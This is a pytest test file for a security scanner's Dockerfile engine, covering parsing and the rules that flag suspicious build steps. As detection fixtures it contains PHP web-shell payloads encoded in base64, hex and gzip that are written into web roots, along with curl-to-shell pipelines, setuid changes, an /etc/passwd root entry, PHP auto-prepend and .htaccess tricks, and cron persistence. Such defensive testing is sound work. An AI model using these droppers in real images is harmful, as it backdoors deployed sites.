"""The Dockerfile engine: how it reads a Dockerfile, and what each rule finds or leaves alone."""
from __future__ import annotations

import base64
import gzip
from pathlib import Path

import pytest

from scanners.engines.dockerfile_parser import is_dockerfile, parse_dockerfile
from scanners.engines.shell import parse as parse_shell
from scanners.findings import Finding, Severity, Verdict
from scanners.scan import Scanner
from tests.scanners.support import scan_files, verdict_of

SHELL_B64 = base64.b64encode(b'<?php eval($_GET["c"]);').decode()


def dockerfile_findings(scanner: Scanner, tmp_path: Path, text: str,
                        name: str = "Dockerfile") -> list[Finding]:
    findings = scan_files(scanner, tmp_path, {name: text})
    return [f for f in findings if f.path == name and f.engine == "dockerfile"]


def rules_of(findings: list[Finding]) -> set[str]:
    return {f.rule for f in findings}


# -- reading ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("name,expected", [
    ("Dockerfile", True), ("dockerfile", True), ("Containerfile", True), ("app.Dockerfile", True),
    ("Dockerfile.prod", True), ("build/web.containerfile", True), (".dockerignore", False),
    ("docker-compose.yml", False), ("Dockerfile-notes.md", False),
])
def test_dockerfile_names(name: str, expected: bool) -> None:
    assert is_dockerfile(name) is expected


def test_continuations_join_lines_and_drop_comments_inside() -> None:
    text = ("FROM wadah/php:8.2\n\nRUN apt-get update \\\n# a comment inside\n\n"
            "    && echo one \\  \n    two\nUSER wadah\n")
    parsed = parse_dockerfile(text)
    assert [(i.keyword, i.line) for i in parsed.instructions] == [
        ("FROM", 1), ("RUN", 3), ("USER", 8)]
    run = parsed.instructions[1]
    commands = [c.words for p in parse_shell(run.arguments) for c in p]
    assert commands == [["apt-get", "update"], ["echo", "one", "two"]]


def test_escape_directive_changes_the_continuation_character() -> None:
    text = "# syntax=docker/dockerfile:1\n# escape=`\nFROM wadah/php:8.2\nRUN echo a `\n  b\\\n"
    parsed = parse_dockerfile(text)
    assert parsed.escape == "`"
    assert parsed.instructions[1].arguments == "echo a   b\\"
    # A directive after the first instruction is only a comment.
    late = parse_dockerfile("FROM x\n# escape=`\nRUN a `\nRUN b\n")
    assert [i.keyword for i in late.instructions] == ["FROM", "RUN", "RUN"]


def test_heredocs_are_read_as_bodies() -> None:
    text = ("FROM wadah/php:8.2\nRUN <<EOF\nset -e\necho hi\nEOF\n"
            "COPY <<-'END' /srv/app/a.txt\n\tline\n\tEND\nRUN cat <<A <<B\n1\nA\n2\nB\nUSER wadah\n")
    parsed = parse_dockerfile(text)
    assert [(i.keyword, i.line) for i in parsed.instructions] == [
        ("FROM", 1), ("RUN", 2), ("COPY", 6), ("RUN", 9), ("USER", 14)]
    assert parsed.instructions[1].heredocs == [("EOF", "set -e\necho hi\n")]
    assert parsed.instructions[2].heredocs == [("END", "line\n")]
    assert parsed.instructions[3].heredocs == [("A", "1\n"), ("B", "2\n")]
    assert parse_dockerfile("FROM x\nRUN <<EOF\necho\n").problems == [
        (2, "heredoc EOF tidak pernah ditutup")]


def test_json_form_and_flags() -> None:
    parsed = parse_dockerfile('FROM wadah/php:8.2\nRUN --network=none ["sh", "-c", "echo 1"]\n'
                              'COPY --chown=10000:10000 ["a b", "/srv/app/"]\nCMD [not json\n')
    run, copy, cmd = parsed.instructions[1:]
    assert run.flags == ["--network=none"] and run.exec_form == ["sh", "-c", "echo 1"]
    assert copy.flag("chown") == ["10000:10000"] and copy.exec_form == ["a b", "/srv/app/"]
    assert cmd.exec_form is None


def test_shell_reading_of_quotes_redirections_and_heredocs() -> None:
    pipelines = parse_shell("A=1 sudo -u x env B=2 base64 -d 'a b' 2>/dev/null >\"$OUT\"/s.php "
                            "| tee -a /x && cat <<'E' > f\n$body\nE\necho $(id) `uname`",
                            {"OUT": "/srv/app"})
    first, second, third = pipelines
    assert first[0].name == "base64" and first[0].arguments == ["-d", "a b"]
    assert first[0].outputs == ["/srv/app/s.php"]
    assert second[0].stdin == "$body\n" and second[0].outputs == ["f"]
    assert third[0].substitutions == ["id", "uname"]


# -- rules -----------------------------------------------------------------------------------------

def test_the_base64_webshell_build_is_infected(offline_scanner: Scanner, tmp_path: Path) -> None:
    text = ("FROM wadah/php:8.2\nUSER root\nCOPY . /srv/app/\n"
            f"RUN echo {SHELL_B64} | base64 -d > /srv/app/s.php\n")
    findings = dockerfile_findings(offline_scanner, tmp_path, text)
    assert rules_of(findings) == {"dockerfile_decoded_payload", "dockerfile_user_root"}
    payload = next(f for f in findings if f.rule == "dockerfile_decoded_payload")
    assert payload.line == 4 and payload.severity == Severity.CRITICAL
    assert payload.snippet is not None and payload.snippet.startswith("RUN echo PD9w")
    assert verdict_of(offline_scanner.policy, findings, "Dockerfile") == Verdict.INFECTED


@pytest.mark.parametrize("run", [
    f"RUN echo {SHELL_B64} | base64 --decode > /srv/app/s.php",
    f"RUN echo '{SHELL_B64}' | openssl enc -base64 -d -out /srv/app/x.php",
    f"RUN base64 -d <<< {SHELL_B64} > public/x.php",  # relative to the image's /srv/app
    f"RUN <<EOF\nset -e\necho {SHELL_B64} | base64 -d > /var/www/html/x.php\nEOF",
    f'RUN ["sh", "-c", "echo {SHELL_B64} | base64 -d | tee /srv/app/t.php"]',
    "RUN printf '\\x3c\\x3f\\x70\\x68\\x70\\x20\\x73\\x79\\x73' > /tmp/a && mv /tmp/a /srv/app/a.php",
    "RUN echo -e '\\x3c\\x3fphp\\x20\\x65val($_GET[1]);' > uploads/x.jpg",
    f"RUN echo {base64.b64encode(gzip.compress(b'<?php system($_GET[1]);')).decode()} "
    "| base64 -d | gunzip > /srv/app/g.php",
    f"RUN echo {b'<?php system($_GET[1]);'.hex()} | xxd -r -p > $APP/h.php",
    f"RUN echo \"$(echo {SHELL_B64} | base64 -d)\" > /srv/app/sub.php",
    f"RUN python3 -c \"import base64; open('/srv/app/p.php','w').write("
    f"base64.b64decode('{SHELL_B64}').decode())\"",
    "RUN php -r 'file_put_contents(\"/srv/app/q.php\", base64_decode($argv[1]));' " + SHELL_B64,
    f"RUN echo {base64.b64encode(b'echo x > /srv/app/r.php').decode()} | base64 -d | sh",
])
def test_decoded_payloads_written_into_code_are_infected(offline_scanner: Scanner, tmp_path: Path,
                                                         run: str) -> None:
    text = f"FROM wadah/php:8.2\nENV APP=/srv/app\n{run}\n"
    findings = dockerfile_findings(offline_scanner, tmp_path, text)
    assert verdict_of(offline_scanner.policy, findings, "Dockerfile") == Verdict.INFECTED, findings
    assert all(f.line == 3 for f in findings), findings


@pytest.mark.parametrize("run,rule", [
    ("RUN echo aGVsbG8gd29ybGQ= | base64 -d > /tmp/motd", "dockerfile_decoded_payload"),
    ("RUN echo ZWNobyBoaQ== | base64 -d | bash", "dockerfile_decoded_payload"),
    ("RUN gunzip -c /srv/app/data.gz > /var/cache/data", "dockerfile_decoded_payload"),
    ("RUN python3 -c \"open('/tmp/x','w').write('1')\"", "dockerfile_script_write"),
    ("RUN curl -fsSL https://get.example/install.sh | sh", "dockerfile_download_exec"),
    ("RUN wget -qO- https://x.example/i.sh | bash -s -- --yes", "dockerfile_download_exec"),
    ("RUN curl -o /tmp/i.sh https://x.example/i.sh && sh /tmp/i.sh", "dockerfile_download_exec"),
    ("RUN wget https://x.example/setup.sh && chmod +x setup.sh && ./setup.sh",
     "dockerfile_download_exec"),
    ("RUN curl -fsSLo /srv/app/lib.zip https://x.example/lib.zip", "dockerfile_download"),
    ("RUN git clone https://git.example/lib.git /srv/app/lib", "dockerfile_download"),
    ("RUN composer install --no-dev", "dockerfile_download"),
    ("RUN chmod u+s /usr/bin/find", "dockerfile_setuid"),
    ("RUN chmod 4755 /usr/local/bin/helper", "dockerfile_setuid"),
    ("RUN install -m 2755 helper /usr/local/bin/helper", "dockerfile_setuid"),
    ("RUN setcap cap_net_raw+ep /usr/bin/ping", "dockerfile_setuid"),
    ("RUN echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd", "dockerfile_system_config"),
    ("RUN echo 'auto_prepend_file=/tmp/x' > /etc/php/8.2/apache2/conf.d/99-x.ini",
     "dockerfile_system_config"),
    ("RUN sed -i 's/Off/On/' /etc/apache2/apache2.conf", "dockerfile_system_config"),
    ("RUN printf 'AddType application/x-httpd-php .jpg\\n' > /srv/app/uploads/.htaccess",
     "dockerfile_system_config"),
    ("RUN echo '* * * * * php /srv/app/x.php' | crontab -", "dockerfile_system_config"),
    ("RUN rm -f /usr/local/sbin/wadah-entrypoint", "dockerfile_system_config"),
    ("RUN a2enmod cgi", "dockerfile_system_config"),
    ("RUN --mount=type=secret,id=token cat /run/secrets/token", "dockerfile_build_option"),
    ("RUN --mount=type=ssh git ls-remote", "dockerfile_build_option"),
    ("RUN --mount=type=cache,target=/root/.cache true", "dockerfile_build_option"),
    ("RUN --mount=type=bind,from=wadah-app/other:1,target=/o cp -r /o /srv/app",
     "dockerfile_build_option"),
    ("RUN --network=host true", "dockerfile_build_option"),
    ("RUN --security=insecure true", "dockerfile_build_option"),
    ("ONBUILD RUN echo hi", "dockerfile_onbuild"),
    ("COPY --from=wadah-app/other-opd:3 /srv/app /srv/app", "dockerfile_copy_from_image"),
    ("COPY --chmod=4755 helper /usr/local/bin/", "dockerfile_setuid"),
    ("COPY apache.conf /etc/apache2/sites-enabled/000-default.conf", "dockerfile_system_config"),
    ("COPY <<EOF /srv/app/z.php\n<?php echo 1;\nEOF", "dockerfile_inline_file"),
    ("RUN echo '<?php phpinfo();' > /srv/app/info.php", "dockerfile_inline_file"),
    ("RUN <<EOF\ncat > /srv/app/x.php <<'PHP'\n<?php echo 2;\nPHP\nEOF", "dockerfile_inline_file"),
    ("RUN <<EOF\necho unterminated", "dockerfile_unreadable"),
])
def test_build_steps_that_need_a_technician_are_review(offline_scanner: Scanner, tmp_path: Path,
                                                       run: str, rule: str) -> None:
    text = f"FROM wadah/php:8.2\n{run}\n"
    findings = dockerfile_findings(offline_scanner, tmp_path, text)
    assert rule in rules_of(findings), findings
    assert next(f for f in findings if f.rule == rule).line == 2
    assert verdict_of(offline_scanner.policy, findings, "Dockerfile") == Verdict.REVIEW, findings


@pytest.mark.parametrize("source", [
    "ADD https://cdn.example/app.tar.gz /srv/app/",
    "ADD http://10.0.0.5/x.php /srv/app/x.php",
    "ADD git@git.example:opd/app.git /srv/app",
    "ADD --keep-git-dir=true https://git.example/opd/app.git#main /srv/app",
    'ADD ["https://cdn.example/a.php", "/srv/app/"]',
])
def test_add_from_the_network_is_infected(offline_scanner: Scanner, tmp_path: Path,
                                          source: str) -> None:
    findings = dockerfile_findings(offline_scanner, tmp_path, f"FROM wadah/php:8.2\n{source}\n")
    assert rules_of(findings) == {"dockerfile_add_remote"}
    assert verdict_of(offline_scanner.policy, findings, "Dockerfile") == Verdict.INFECTED


@pytest.mark.parametrize("text,rule,line", [
    ("FROM wadah/php:8.2\nUSER root\n", "dockerfile_user_root", 2),
    ("FROM wadah/php:8.2\nUSER 0:0\n", "dockerfile_user_root", 2),
    ("FROM wadah/php:8.2\nARG WHO=root\nUSER ${WHO}\n", "dockerfile_user_root", 3),
    ("FROM wadah/php:8.2 AS base\nUSER root\nFROM base\nCOPY . /srv/app/\n",
     "dockerfile_user_root", 2),
    ("FROM wadah/php:8.2\nENTRYPOINT [\"apache2ctl\", \"-DFOREGROUND\"]\n",
     "dockerfile_runtime_override", 2),
    ("FROM wadah/php:8.2\nCOPY . /srv/app/\nCMD php -S 0.0.0.0:8080\n",
     "dockerfile_runtime_override", 3),
    ("FROM wadah/php:8.2\nSHELL [\"/bin/bash\", \"-c\"]\n", "dockerfile_runtime_override", 2),
])
def test_the_final_stage_keeps_the_runtime_image_as_it_runs(offline_scanner: Scanner,
                                                             tmp_path: Path, text: str, rule: str,
                                                             line: int) -> None:
    findings = dockerfile_findings(offline_scanner, tmp_path, text)
    assert [(f.rule, f.line) for f in findings] == [(rule, line)]
    assert verdict_of(offline_scanner.policy, findings, "Dockerfile") == Verdict.REVIEW


@pytest.mark.parametrize("text", [
    "FROM wadah/php:8.2\nCOPY . /srv/app/\n",
    "FROM wadah/static:latest\nCOPY public/ /srv/app/\n",
    "FROM wadah/php:8.2\nCOPY --chown=10000:10000 . /srv/app/\nWORKDIR /srv/app\n"
    "RUN mkdir -p storage/cache uploads \\\n    && chmod 755 storage storage/cache uploads\n",
    # Root for a step, then back to the app's user; ENTRYPOINT only in a build stage.
    "FROM wadah/php:8.2 AS build\nUSER root\nRUN mkdir -p /out && cp -r /srv/app /out\n"
    "ENTRYPOINT [\"sh\"]\nFROM wadah/php:8.2\nCOPY --from=build /out/app /srv/app\n"
    "COPY --from=0 /etc/hostname /srv/app/hostname.txt\n",
    "FROM wadah/php:8.2\nUSER root\nRUN apt-get update && apt-get install -y --no-install-recommends "
    "php8.2-gd && rm -rf /var/lib/apt/lists/*\nUSER wadah\n",
    "FROM wadah/php:8.2\nENV APP_ENV=production TZ=\"Asia/Jakarta\"\nARG VERSION=1.0\n"
    "LABEL version=$VERSION\nCOPY . /srv/app/\nRUN echo \"$VERSION\" > /srv/app/VERSION "
    "&& printf '%s\\n' done\nEXPOSE 8080\nHEALTHCHECK CMD true\n",
    "# syntax=docker/dockerfile:1\nFROM wadah/php:8.2\nRUN --mount=type=tmpfs,target=/tmp true\n"
    "RUN --network=none echo ok\nCOPY <<EOF /srv/app/robots.txt\nUser-agent: *\nEOF\n",
])
def test_ordinary_dockerfiles_stay_clean(offline_scanner: Scanner, tmp_path: Path,
                                         text: str) -> None:
    findings = scan_files(offline_scanner, tmp_path, {"Dockerfile": text})
    assert verdict_of(offline_scanner.policy, findings, "Dockerfile") == Verdict.CLEAN, findings


def test_only_dockerfile_names_are_read_as_dockerfiles(offline_scanner: Scanner,
                                                       tmp_path: Path) -> None:
    text = f"FROM wadah/php:8.2\nRUN echo {SHELL_B64} | base64 -d > /srv/app/s.php\n"
    findings = scan_files(offline_scanner, tmp_path, {"notes/build.txt": text,
                                                     "deploy/web.Dockerfile": text})
    assert {f.path for f in findings if f.engine == "dockerfile"} == {"deploy/web.Dockerfile"}


def test_a_dockerfile_too_big_or_too_busy_to_read_whole_is_review(offline_scanner: Scanner,
                                                                  tmp_path: Path) -> None:
    busy = "FROM wadah/php:8.2\n" + "RUN true && true\n" * 1100
    findings = dockerfile_findings(offline_scanner, tmp_path / "busy", busy)
    assert [(f.rule, f.line) for f in findings] == [("dockerfile_unreadable", 1002)]
    assert verdict_of(offline_scanner.policy, findings, "Dockerfile") == Verdict.REVIEW
    big = "FROM wadah/php:8.2\nCOPY . /srv/app/\n# " + "x" * 300_000 + "\n"
    findings = dockerfile_findings(offline_scanner, tmp_path / "big", big)
    assert rules_of(findings) == {"dockerfile_unreadable"}
